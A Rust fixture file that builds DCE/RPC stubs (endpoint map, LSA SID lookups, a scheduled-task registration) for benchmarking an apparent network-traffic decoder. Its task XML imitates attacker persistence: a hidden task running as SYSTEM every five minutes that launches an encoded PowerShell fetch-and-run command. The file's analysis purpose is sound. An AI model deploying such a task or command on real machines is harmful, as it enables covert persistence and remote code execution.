//! Stubs that are measured: some cut from our own captures, some as large as Windows makes them.

use rpcscope_model::Opnum;
use rpcscope_wire::ByteOrder;
use rpcscope_wire::stub::{Decoded, Stub, Syntax, decode_request, decode_response, interfaces};
use std::path::Path;
use uuid::Uuid;

/// One stub, and what it belongs to.
#[derive(Clone, Debug)]
pub struct Sample {
    /// What it shows.
    pub name: String,
    interface: Uuid,
    opnum: Opnum,
    is_request: bool,
    bytes: Vec<u8>,
}

impl Sample {
    /// A seed of the fuzz target `stub`, named `INTERFACE-OPNUM-KIND`, without the six bytes that choose the decoder.
    pub fn seed(name: &str) -> Self {
        let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/fuzz/corpus/stub");
        let seed = std::fs::read(folder.join(name)).expect("a seed");
        let (choice, bytes) = seed.split_first_chunk::<6>().expect("a choice");
        let begins = |uuid: Uuid| uuid.as_bytes()[..4] == choice[..4];
        let service = name.split('-').next().expect("a name");
        let named = |known: &str| known.eq_ignore_ascii_case(service);
        let interface = interfaces().iter().find(|known| begins(known.uuid) && named(known.name));
        let interface = interface.expect("an interface that is decoded").uuid;
        let opnum = Opnum(u16::from(choice[4]));
        let is_request = name.ends_with("-request");
        Self { name: name.to_owned(), interface, opnum, is_request, bytes: bytes.to_vec() }
    }

    fn of(name: &str, interface: u128, opnum: u16, is_request: bool, bytes: Vec<u8>) -> Self {
        let interface = Uuid::from_u128(interface);
        Self { name: name.to_owned(), interface, opnum: Opnum(opnum), is_request, bytes }
    }

    /// The same stub of an interface that has no decoder.
    pub fn undecoded(mut self) -> Self {
        self.name = "no decoder for this call".to_owned();
        self.interface = Uuid::from_u128(0x0b1c_2170_5732_4e0e_8cd3_d9b1_6f3b_84d7);
        self
    }

    /// What is measured.
    pub fn decode(&self) -> Option<Decoded> {
        let stub = Stub { bytes: &self.bytes, order: ByteOrder::Little, syntax: Syntax::Ndr, complete: true };
        if self.is_request {
            decode_request(self.interface, self.opnum, stub)
        } else {
            decode_response(self.interface, self.opnum, stub, None)
        }
    }

    /// Its length.
    pub fn bytes(&self) -> usize {
        self.bytes.len()
    }
}

/// The answer of an endpoint mapper that knows `count` endpoints ([C706] appendix O).
pub fn endpoint_map(count: u32) -> Sample {
    let mut stub = Encoder::default();
    stub.fixed(&[0; 20]).u32(count).u32(count).u32(0).u32(count);
    for at in 0..count {
        stub.fixed(&[0; 16]).u32(0x20000 + 4 * at).u32(0).u32(17).fixed(b"an annotation  \0\0");
        stub.align(4);
    }
    for at in 0..count {
        let tower = tower(at);
        let length = u32::try_from(tower.len()).expect("a small tower");
        stub.u32(length).u32(length).fixed(&tower).align(4);
    }
    stub.u32(0);
    let name = format!("ept_lookup response, {count} endpoints");
    Sample::of(&name, 0xe1af8308_5d1f_11c9_91a4_08002b14a0fa, 2, false, stub.bytes)
}

/// Five floors of TCP.
fn tower(at: u32) -> Vec<u8> {
    let mut tower = vec![5, 0];
    let mut floor = |left: &[u8], right: &[u8]| {
        for part in [left, right] {
            tower.extend(u16::try_from(part.len()).expect("a small part").to_le_bytes());
            tower.extend(part);
        }
    };
    let uuid = Uuid::from_u128(u128::from(at)).to_bytes_le();
    floor(&[&[0x0d], uuid.as_slice(), &[1, 0]].concat(), &[0, 0]);
    let ndr = Uuid::from_u128(0x8a885d04_1ceb_11c9_9fe8_08002b104860).to_bytes_le();
    floor(&[&[0x0d], ndr.as_slice(), &[2, 0]].concat(), &[0, 0]);
    floor(&[0x0b], &[0, 0]);
    floor(&[0x07], &[0xc0, 0x10]);
    floor(&[0x09], &[10, 0, 0, 9]);
    tower
}

/// LsarLookupSids of `count` accounts of a domain ([MS-LSAT] 3.1.4.11).
pub fn sids_looked_up(count: u32) -> Sample {
    let mut stub = Encoder::default();
    stub.fixed(&[7; 20]).u32(count).u32(0x20000).u32(count);
    (0..count).for_each(|at| _ = stub.u32(0x20004 + 4 * at));
    (0..count).for_each(|at| _ = stub.sid(1000 + at));
    stub.u32(0).u32(0).u16(1).u32(0);
    Sample::of(&format!("LsarLookupSids request, {count} SIDs"), LSARPC, 15, true, stub.bytes)
}

/// What it gives back.
pub fn sids_translated(count: u32) -> Sample {
    let mut stub = Encoder::default();
    stub.u32(0x20000).u32(1).u32(0x20004).u32(32).u32(1);
    stub.counted("CORP", 0x20008).u32(0x2000c).text("CORP").sid(0);
    stub.u32(count).u32(0x20010).u32(count);
    for at in 0..count {
        stub.u16(1).align(4).counted(&account(at), 0x20014 + 4 * at).u32(0);
    }
    (0..count).for_each(|at| _ = stub.text(&account(at)));
    stub.u32(count).u32(0);
    Sample::of(&format!("LsarLookupSids response, {count} names"), LSARPC, 15, false, stub.bytes)
}

fn account(at: u32) -> String {
    format!("some.account.{at:04}")
}

/// SchRpcRegisterTask with a task as schtasks writes it ([MS-TSCH] 3.2.5.4.2).
pub fn task_registered() -> Sample {
    let mut stub = Encoder::default();
    stub.u32(0x20000).string("\\Updates\\Nightly").string(TASK).u32(6).u32(0).u32(3).u32(0).u32(0);
    Sample::of("SchRpcRegisterTask request", 0x86d35949_83c9_4044_b424_db363231fd0c, 1, true, stub.bytes)
}

const LSARPC: u128 = 0x12345778_1234_abcd_ef00_0123456789ab;

const TASK: &str = r#"<?xml version="1.0" encoding="UTF-16"?>
<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
  <RegistrationInfo><Date>2026-11-20T17:58:48</Date><Author>CORP\alice</Author><URI>\Updates\Nightly</URI></RegistrationInfo>
  <Triggers><CalendarTrigger><Repetition><Interval>PT5M</Interval><StopAtDurationEnd>false</StopAtDurationEnd></Repetition>
    <StartBoundary>2026-11-20T18:00:00</StartBoundary><Enabled>true</Enabled>
    <ScheduleByDay><DaysInterval>1</DaysInterval></ScheduleByDay></CalendarTrigger>
    <LogonTrigger><Enabled>true</Enabled><UserId>CORP\alice</UserId></LogonTrigger></Triggers>
  <Principals><Principal id="Author"><UserId>S-1-5-18</UserId><RunLevel>HighestAvailable</RunLevel></Principal></Principals>
  <Settings><MultipleInstancesPolicy>IgnoreNew</MultipleInstancesPolicy><DisallowStartIfOnBatteries>false</DisallowStartIfOnBatteries>
    <StopIfGoingOnBatteries>false</StopIfGoingOnBatteries><AllowHardTerminate>true</AllowHardTerminate>
    <StartWhenAvailable>false</StartWhenAvailable><IdleSettings><StopOnIdleEnd>true</StopOnIdleEnd><RestartOnIdle>false</RestartOnIdle></IdleSettings>
    <AllowStartOnDemand>true</AllowStartOnDemand><Enabled>true</Enabled><Hidden>true</Hidden><RunOnlyIfIdle>false</RunOnlyIfIdle>
    <WakeToRun>false</WakeToRun><ExecutionTimeLimit>PT72H</ExecutionTimeLimit><Priority>7</Priority></Settings>
  <Actions Context="Author"><Exec><Command>C:\Windows\System32\cmd.exe</Command>
    <Arguments>/c powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA</Arguments></Exec></Actions>
</Task>"#;

/// A stub in NDR, least significant byte first.
#[derive(Default)]
struct Encoder {
    bytes: Vec<u8>,
}

impl Encoder {
    fn align(&mut self, to: usize) -> &mut Self {
        self.bytes.resize(self.bytes.len().next_multiple_of(to), 0);
        self
    }

    fn fixed(&mut self, bytes: &[u8]) -> &mut Self {
        self.bytes.extend(bytes);
        self
    }

    fn u16(&mut self, value: u16) -> &mut Self {
        self.align(2).fixed(&value.to_le_bytes())
    }

    fn u32(&mut self, value: u32) -> &mut Self {
        self.align(4).fixed(&value.to_le_bytes())
    }

    /// RPC_UNICODE_STRING.
    fn counted(&mut self, text: &str, pointer: u32) -> &mut Self {
        let bytes = u16::try_from(2 * text.len()).expect("a short text");
        self.align(4).u16(bytes).u16(bytes).u32(pointer)
    }

    /// The characters of an RPC_UNICODE_STRING.
    fn text(&mut self, text: &str) -> &mut Self {
        let units: Vec<u16> = text.encode_utf16().collect();
        let count = u32::try_from(units.len()).expect("a short text");
        self.u32(count).u32(0).u32(count);
        units.iter().for_each(|unit| _ = self.u16(*unit));
        self
    }

    /// A conformant varying string.
    fn string(&mut self, text: &str) -> &mut Self {
        self.text(&format!("{text}\0"))
    }

    fn sid(&mut self, rid: u32) -> &mut Self {
        self.u32(5).fixed(&[1, 5, 0, 0, 0, 0, 0, 5]);
        [21, 1_158_133_822, 337_159_031, 3_147_065_266, rid].iter().for_each(|value| _ = self.u32(*value));
        self
    }
}
